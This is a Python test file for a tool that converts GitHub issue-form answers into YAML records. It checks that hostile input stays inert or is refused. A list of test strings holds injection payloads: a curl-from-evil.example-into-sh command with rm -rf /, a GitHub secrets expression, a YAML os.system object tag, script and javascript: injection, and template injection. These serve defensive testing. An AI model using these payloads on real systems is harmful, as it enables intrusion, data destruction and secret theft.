"""Issue forms: as GitHub wants them, and what their answers become, hostile ones above all."""

import json
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from filrouge.diagnostics import UserError
from filrouge.ecriture.lignes import entry_lines
from filrouge.formulaires.issues import FORMULAIRES, PROMESSE, issue_forms
from filrouge.formulaires.reponse import MOST, read_answer
from filrouge.source import read_document
from filrouge.starter.add import Added
from filrouge.starter.create import Answers, repository_files
from filrouge.starter.demande import Demande, read_event, record_request

HERE = Path(__file__).parent
TODAY = date(2026, 11, 16)
RECLAMATION, _, _, IDEE = FORMULAIRES
ANSWERS = {
    "titre": "Attestation jamais reçue",
    "recu_le": "12/11/2026",
    "canal": "Courriel – Reçu par courriel",
    "qualite": "Bénéficiaire – Stagiaire, candidat, apprenti",
    "description": "Demandée trois fois depuis la fin de la session.\n\n- deux relances\n- aucune réponse",
    "gravite": "Modérée – Prestation perturbée",
    "traitement": "_No response_",
}


def body(form=RECLAMATION, promise=f"- [X] {PROMESSE}", **changed):
    """Return what GitHub makes of the answers to a form."""
    answers = {**ANSWERS, **changed}
    parts = [f"### {champ.libelle}\n\n{answers[champ.nom]}" for champ in form.champs]
    return "\n\n".join((*parts, f"### {form.promesse}\n\n{promise}"))


@pytest.fixture
def root(tmp_path):
    (tmp_path / "content/signalements").mkdir(parents=True)
    (tmp_path / "content/signalements/REC-2026-004.yaml").write_text("titre: x\n", encoding="utf-8")
    return tmp_path


def record(root, text, noms=(), elsewhere=()):
    return record_request(root, Demande(12, text), noms, elsewhere, TODAY)


def files(root):
    return sorted(path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file())


def test_the_forms(golden):
    for path, content in issue_forms().items():
        golden(HERE / "attendu" / Path(path).name, content.decode())


@pytest.fixture(scope="module")
def github(tmp_path_factory):
    """The folder ``.github`` of a new repository."""
    folder = tmp_path_factory.mktemp("depot")
    for path, content in repository_files(Answers("Essai", ("formation",)), TODAY).items():
        if path.startswith(".github/"):
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_bytes(content)
    return folder / ".github"


def run(*command):
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_github_takes_the_forms(github):
    forms = [str(path) for path in sorted((github / "ISSUE_TEMPLATE").glob("[!c]*.yml"))]
    assert len(forms) == len(FORMULAIRES)
    check = Path(sys.executable).with_name("check-jsonschema")
    run(check, "--builtin-schema", "vendor.github-issue-forms", *forms)
    run(check, "--builtin-schema", "vendor.github-issue-config", str(github / "ISSUE_TEMPLATE/config.yml"))


def test_no_word_of_an_issue_enters_a_command(github):
    workflow = yaml.safe_load((github / "workflows/enregistrer.yml").read_text(encoding="utf-8"))
    steps = [step for job in workflow["jobs"].values() for step in job["steps"]]
    assert len(steps) == 6
    assert not any("${{" in step.get("run", "") for step in steps)
    text = json.dumps(workflow)
    assert "issue.title" not in text
    assert "issue.body" not in text


def test_a_record_from_an_answer(root, golden):
    added = record(root, body().replace("\n", "\r\n"))
    assert added == Added("REC-2026-005", "content/signalements/REC-2026-005.yaml")
    golden(HERE / "attendu/REC-2026-005.yaml", (root / added.path).read_text(encoding="utf-8"))


def test_an_idea_is_an_action_to_complete(root, golden):
    text = body(IDEE, titre="Un plan d’accès", constat="On se perd.", mesure="Une affiche.\nUn plan.")
    added = record(root, text)
    golden(HERE / "attendu/ACT-2026-001.yaml", (root / added.path).read_text(encoding="utf-8"))


def test_a_number_that_waits_elsewhere_is_taken(root):
    added = record(root, body(), elsewhere=["content/signalements/REC-2026-007.yaml", "content/x", ""])
    assert added.id == "REC-2026-008"


INERT = [
    "$(curl evil.example | sh) `id` && rm -rf / ; ${{ secrets.GITHUB_TOKEN }}",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]\n<<: *a",
    "--- \n...\n%YAML 1.1",
    "titre: autre\ngravite: mineure",
    "### Un titre à soi\n\n### Gravite",
    "\"'\\\n# commentaire\n  décalé",
    "<script>alert(1)</script> [x](javascript:alert(1)) ![](https://evil.example/p.gif)",
    "|-\n  bloc\n\n\n  suite",
    "{{ organisme }} {% include 'x' %}",
]


@pytest.mark.parametrize("hostile", INERT)
def test_what_looks_like_code_is_text(root, hostile):
    added = record(root, body(description=hostile))
    document, findings = read_document(added.path, (root / added.path).read_bytes())
    assert findings == ()
    assert document.data["description"] == hostile
    assert document.data["gravite"] == "moderee"
    assert files(root) == ["content/signalements/REC-2026-004.yaml", "content/signalements/REC-2026-005.yaml"]


FORM = "la demande n’est pas la réponse à l’un des formulaires, ou ses titres (« ### … ») ont été changés ou répétés"
REFUSED = {
    "not a form": ("Bonjour, mon attestation ?", FORM),
    "empty": ("", FORM),
    "forged heading": (body(description="x\n\n### Gravité\n\nMajeure"), FORM),
    "forged promise": (body(promise="- [ ] non") + f"\n\n### {RECLAMATION.promesse}\n\n- [X] {PROMESSE}", FORM),
    "missing heading": (body().replace("### Canal\n", ""), FORM),
    "headings out of order": (body().replace("### Objet", "### @").replace("### Canal", "### Objet").replace("### @", "### Canal"), FORM),
    "text before": (f"Bonjour\n\n{body()}", FORM),
    "unknown value": (body(gravite="Cosmique"), "« Gravité » : la réponse n’est pas dans la liste"),
    "value, not words": (body(gravite="majeure"), "« Gravité » : la réponse n’est pas dans la liste"),
    "several lines": (body(titre="Une ligne\nune autre"), "« Objet » : écrivez une seule ligne"),
    "no answer": (body(titre="_No response_"), "« Objet » : il manque une réponse"),
    "short": (body(titre="x"), "« Objet » : 3 caractères au moins"),
    "long": (body(titre="x" * 201), "« Objet » : 200 caractères au plus"),
    "no day": (body(recu_le="hier"), "« Reçu le » : écrivez la date AAAA-MM-JJ"),
    "month 13": (body(recu_le="12/13/2026"), "« Reçu le » : écrivez la date AAAA-MM-JJ"),
    "not ticked": (body(promise=f"- [ ] {PROMESSE}"), f"« {RECLAMATION.promesse} » : la case n’est pas cochée"),
    "another promise": (body(promise="- [X] Rien"), f"« {RECLAMATION.promesse} » : la case n’est pas cochée"),
    "huge": (body(description="x" * MOST), f"la demande dépasse {MOST} caractères"),
    "control": (body(titre="Appel\x1b[31m"), "la demande contient des caractères invisibles ou de commande"),
    "null": (body(titre="Nul\x00"), "la demande contient des caractères invisibles ou de commande"),
    "bidi": (body(titre="abc\u202edef"), "la demande contient des caractères invisibles ou de commande"),
    "surrogate": (body(titre="abc\ud800"), "la demande contient des caractères invisibles ou de commande"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_refused(root, case):
    text, message = REFUSED[case]
    refused = record(root, text)
    assert (refused.defauts, refused.personnel) == ((message,), False)
    assert files(root) == ["content/signalements/REC-2026-004.yaml"]


def test_a_day_to_come_is_refused(root):
    (fault,) = record(root, body(recu_le="2027-01-01")).defauts
    assert "recu_le" in fault


@pytest.mark.parametrize(
    ("changed", "message"),
    [
        ({"titre": "Écrire à camille@exemple.fr"}, "« Objet » contient une adresse de courriel"),
        ({"description": "Rappeler au 06 12 34 56 78."}, "« Description » contient un numéro de téléphone"),
        ({"traitement": "Vu avec Dupond."}, "« Traitement immédiat » contient un nom à protéger"),
    ],
)
def test_personal_data_is_refused_and_never_repeated(root, changed, message):
    refused = record(root, body(**changed), noms=("Dupond",))
    assert (refused.defauts, refused.personnel) == ((message,), True)
    assert files(root) == ["content/signalements/REC-2026-004.yaml"]


TEXTS = st.text(st.characters(codec="utf-8"), max_size=80)


@given(st.lists(TEXTS, max_size=4).map("\n".join))
def test_any_answer_is_text_or_refused(text):
    answer = read_answer(body(description=text))
    if not answer.defauts:
        assert answer.valeurs["description"] == text.replace("\r\n", "\n").strip()
        assert answer.valeurs["gravite"] == "moderee"
        lines = "\n".join(entry_lines("description", answer.valeurs["description"], 0)) + "\n"
        document, findings = read_document("a.yaml", lines.encode())
        assert findings == ()
        assert document.data == {"description": answer.valeurs["description"]}


@given(TEXTS)
def test_any_body_is_read(text):
    assert read_answer(text).defauts


@pytest.mark.parametrize(
    "raw",
    [
        b"", b"{", b"[]", b"{}", b'{"issue": {}}', b'{"issue": {"number": "1; id", "body": "x"}}',
        b'{"issue": {"number": true, "body": "x"}}', b'{"issue": {"number": 0, "body": "x"}}',
        b'{"issue": {"number": 1, "body": 3}}', b"[" * 100_000, b" " * 2_000_001, b"\xff\xfe",
    ],
)  # fmt: skip
def test_an_event_that_tells_of_no_issue(tmp_path, raw):
    path = tmp_path / "event.json"
    path.write_bytes(raw)
    with pytest.raises(UserError, match="ne décrit pas une demande"):
        read_event(path)
    with pytest.raises(UserError, match="ne décrit pas une demande"):
        read_event(tmp_path / "absent.json")


def test_an_issue_without_a_body(tmp_path):
    path = tmp_path / "event.json"
    path.write_text('{"issue": {"number": 7, "body": null}}', encoding="utf-8")
    assert read_event(path) == Demande(7, "")
